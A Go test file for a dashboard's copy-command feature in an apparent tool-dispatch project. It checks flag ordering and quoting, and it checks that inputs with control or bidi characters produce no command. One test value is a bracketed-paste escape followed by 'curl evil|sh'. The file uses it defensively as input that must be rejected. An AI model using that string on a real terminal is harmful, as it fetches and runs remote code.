package dashboard

import (
	"os"
	"testing"

	"github.com/stretchr/testify/require"
	"github.com/toolwire/toolwire/internal/audit"
)

// The command puts its flags before "--", so a tool named like a flag
// stays the tool; a word with a control or format character gets no
// command (a paste could end a bracketed paste and run what follows);
// the JSON is not HTML-escaped.
func TestCopyTexts(t *testing.T) {
	t.Parallel()
	rec := &audit.Record{Tool: "--help", Arguments: []byte(`{"q": "<a&b>"}`), Session: "s 1"}
	asJSON, cmd := copyTexts(rec)
	require.Equal(t, `toolctl call --session 's 1' -- --help '{"q":"<a&b>"}'`, cmd)
	require.Contains(t, asJSON, `"q": "<a&b>"`)
	for _, bad := range []string{"x\x1b[201~\x15curl evil|sh\r", "a\u202eb", "two\nlines"} {
		_, cmd := copyTexts(&audit.Record{Tool: "echo", Arguments: []byte(`{}`), Session: bad})
		require.Empty(t, cmd, "%q", bad)
	}
	_, cmd = copyTexts(&audit.Record{Tool: "echo", Arguments: []byte("{\"t\":\"\u202e\"}")})
	require.Empty(t, cmd, "a bidi override in the arguments")
	require.Empty(t, curlText(&audit.Record{Tool: "echo", Arguments: []byte("{\"t\":\"\u202e\"}")}), "no curl command either")
	require.Empty(t, curlText(&audit.Record{Tool: "echo", Arguments: []byte(`{}`), Run: "x\x1b[201~"}))
	require.Equal(t, `curl -sS -H 'Content-Type: application/json' -H "Authorization: Bearer $TOOLWIRE_API_KEY" --data-binary `+
		`'{"tool":"--help","arguments_json":"{\"q\":\"<a&b>\"}","session":"s 1"}' "${TOOLWIRE_SERVER:-http://127.0.0.1:8080}/toolwire.v1.DispatcherService/Call"`,
		curlText(rec), "not HTML-escaped; a tool named like a flag is inside the body")
}

// The curl example of docs/dashboard.md is what the page copies for its
// call.
func TestCurlExampleOfTheDocs(t *testing.T) {
	t.Parallel()
	doc, err := os.ReadFile("../../docs/dashboard.md")
	require.NoError(t, err)
	want := curlText(&audit.Record{Tool: "login", Arguments: []byte(`{"password":"[REDACTED]","user":"o'brien"}`), Session: "s-acme"})
	require.NotEmpty(t, want)
	require.Contains(t, string(doc), "\n  "+want+"\n", "docs/dashboard.md shows the command the page copies")
}
